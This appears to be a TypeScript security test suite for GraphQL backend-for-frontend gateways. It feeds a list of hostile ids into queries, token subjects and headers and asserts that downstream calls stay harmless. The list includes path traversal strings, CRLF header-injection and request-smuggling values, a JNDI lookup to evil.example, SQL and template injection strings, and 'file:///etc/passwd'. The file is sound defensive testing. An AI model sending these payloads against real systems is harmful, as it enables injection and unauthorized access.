import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { importJWK, SignJWT } from 'jose';
import { CAST } from '../../services/support/cast.ts';
import { DEMO_KEY } from '../../services/support/demo-key.ts';
import { DEMO_AUDIENCE, DEMO_ISSUER } from '../../services/support/tokens.ts';
import type { BffDefinition } from '../../src/bff.ts';
import { type Environment, startEnvironment } from '../support/environment.ts';
import { BFFS } from './bffs.ts';
import { jsonPost, send } from './http-client.ts';
import { isFull } from './mode.ts';
import { assertErrorFormat } from './responses.ts';

/** Ids that would lead elsewhere, if they came into an address as they are. */
const IDS = [
  '../admin',
  '..',
  '.',
  './',
  '/',
  '//',
  '//evil.example/',
  '..\\admin',
  '\\',
  '\\\\evil.example\\share',
  '%2e%2e',
  '%2e%2e%2fadmin',
  '%252e%252e%252fadmin',
  '..%2fadmin',
  '..;/admin',
  '\u2025/admin',
  '\uff0e\uff0e\uff0fadmin',
  '%c0%ae%c0%ae%c0%afadmin',
  '42/../../admin',
  '42?role=staff',
  '42&user=1',
  '42#',
  '42;user=1',
  '42,1',
  '42 ',
  ' 42',
  '42\n',
  '42\r\nx-injected: 1',
  '42\r\n\r\nGET /admin HTTP/1.1\r\n\r\n',
  '42\0',
  '\0',
  '42%00',
  '42%0d%0ax-injected:%201',
  '４２',
  '42\u202e',
  '😀',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would take for one
  '${jndi:ldap://evil.example/a}',
  "' OR 1=1 --",
  '__proto__',
  'constructor',
  '*',
  '@evil.example',
  ':@evil.example:80/',
  'http://evil.example/',
  'file:///etc/passwd',
  'x'.repeat(5_000),
  '9'.repeat(400),
  '',
];

/** Where what a client writes goes on to a service; `$a` stands for it. */
const PLACES: Readonly<Record<string, readonly string[]>> = {
  all: [
    'query ($a: ID!) { profile(id: $a) { name } }',
    'query ($a: ID!) { x: profile(id: "42") { name } y: profile(id: $a) { name } }',
    'mutation ($a: ID!) { cancelOrder(id: $a) { userErrors { code } } }',
    'mutation ($a: ID!) { placeOrder(input: { idempotencyKey: $a, currency: "EUR", items: [{ sku: "x", quantity: 1 }] }) { userErrors { code } } }',
    'mutation ($a: ID!) { placeOrder(input: { idempotencyKey: "k", currency: "EUR", items: [{ sku: $a, quantity: 1 }] }) { userErrors { code } } }',
    'mutation ($a: String!) { placeOrder(input: { idempotencyKey: "k", currency: $a, items: [{ sku: "x", quantity: 1 }] }) { userErrors { code } } }',
  ],
  mobile: [
    'mutation ($a: ID!) { markNotificationsRead(ids: [$a]) { userErrors { code } } }',
    'mutation ($a: String!) { updateProfile(input: { locale: $a }) { userErrors { code } } }',
  ],
  web: [
    'query ($a: ID!) { order(id: $a) { status } }',
    'mutation ($a: ID!) { markNotificationsRead(ids: [$a]) { userErrors { code } } }',
    'mutation ($a: String!) { updateProfile(input: { avatarUrl: $a }) { userErrors { code } } }',
    'query ($a: String!) { viewer { orders(after: $a) { edges { cursor } } } }',
    'query ($a: String!) { viewer { notifications(after: $a) { edges { cursor } } } }',
    'query ($a: String!) { customers(search: $a) { edges { cursor } } }',
    'query ($a: String!) { customers(after: $a) { edges { cursor } } }',
  ],
  partner: [
    'query ($a: ID!) { order(id: $a) { status } }',
    'query ($a: String!) { me { orders(after: $a) { next } } }',
  ],
};

const SEGMENTS = new Set(
  'users orders notifications unread announcements read cancel profile events'.split(' '),
);
const PARAMETERS = new Set('ids search limit cursor user users status recent unread'.split(' '));

for (const bff of BFFS) {
  describe(`${bff.name}: ids that would lead elsewhere`, () => {
    let environment: Environment;
    before(async () => {
      environment = await startEnvironment(bff);
    });
    after(() => environment[Symbol.asyncDispose]());

    for (const [place, query] of placesOf(bff).entries()) {
      it(`reach the services encoded or not at all: ${query.slice(0, 90)}`, async () => {
        // In the short form each id in a few of the places.
        for (const id of IDS.filter((_, n) => isFull || n % 8 === place % 8)) {
          for (const as of isFull
            ? [CAST.customer, 'staff']
            : [query.includes('customers') ? 'staff' : CAST.customer]) {
            await attack(query, id, as);
          }
        }
      });
    }

    async function attack(query: string, id: string, as: string) {
      environment.reset();
      const { status, body } = await environment.send(query, { as, variables: { a: id } });
      const what = `${JSON.stringify(id.slice(0, 60))}: ${status} ${JSON.stringify(body)}`;
      assert.ok(status < 500, what);
      assert.doesNotMatch(JSON.stringify(body), /"INTERNAL_SERVER_ERROR"/, what);
      demandHarmless(environment, id);
    }

    it('are refused as the subject of a token', async () => {
      for (const sub of IDS.filter((id) => id.length < 6_000)) {
        environment.reset();
        const headers = { authorization: `Bearer ${await tokenOf(sub)}` };
        const received = await send(
          jsonPost(environment.endpoint, { query: '{ __typename }' }, headers),
        );
        // A run of digits is an id, if nobody's.
        if (/^[\w-]{1,64}$/.test(sub)) continue;
        assert.equal(received.status, 401, JSON.stringify(sub.slice(0, 60)));
        assertErrorFormat(received, sub);
        assert.deepEqual(environment.calls(), []);
      }
    });

    it('do nothing in headers that go on to the services', async () => {
      const values = [
        '../admin',
        '00-../..',
        'de\t../',
        '*',
        '42?x=1',
        'x'.repeat(4_000),
        '\u00e9',
      ];
      for (const value of values) {
        environment.reset();
        const { status } = await environment.send('{ profile(id: "42") { name } }', {
          headers: {
            'accept-language': value,
            traceparent: value,
            'x-request-id': value,
            'x-viewer': value,
            'x-forwarded-host': value,
          },
        });
        assert.ok(status < 500, value);
        for (const { headers } of environment.calls()) {
          const passed = Object.entries(headers).filter(([, sent]) => sent === value);
          assert.deepEqual(passed, [], JSON.stringify(value.slice(0, 60)));
        }
      }
    });
  });
}

function placesOf({ name }: BffDefinition): string[] {
  return [...(PLACES.all ?? []), ...(PLACES[name] ?? [])];
}

/** All that the services saw is their own addresses, with what the client wrote in its place. */
function demandHarmless(environment: Environment, id: string): void {
  for (const { operation, url, headers } of environment.calls()) {
    const what = `${JSON.stringify(id.slice(0, 60))} becomes ${url.slice(0, 200)}`;
    assert.notEqual(operation, 'unmatched', what);
    const [path = '', search = ''] = url.split('?');
    for (const segment of path.split('/').slice(1)) {
      const own = decodeURIComponent(segment);
      assert.ok(SEGMENTS.has(segment) || own === id || /^[\w-]+$/.test(own), what);
      assert.ok(own !== '.' && own !== '..', what);
    }
    const names = [...new URLSearchParams(search).keys()];
    assert.deepEqual([...new Set(names)], names, what);
    for (const name of names) assert.ok(PARAMETERS.has(name), what);
    assert.doesNotMatch(url, /[\s\\\0\u0080-\uffff]/, what);
    assert.equal(headers['x-injected'], undefined, what);
  }
}

/** A token that is in order but for its subject. */
async function tokenOf(sub: string): Promise<string> {
  return new SignJWT({ role: 'customer' })
    .setProtectedHeader({ alg: 'ES256', kid: DEMO_KEY.kid })
    .setIssuer(DEMO_ISSUER)
    .setAudience(DEMO_AUDIENCE)
    .setSubject(sub)
    .setExpirationTime('10m')
    .sign(await importJWK(DEMO_KEY, 'ES256'));
}
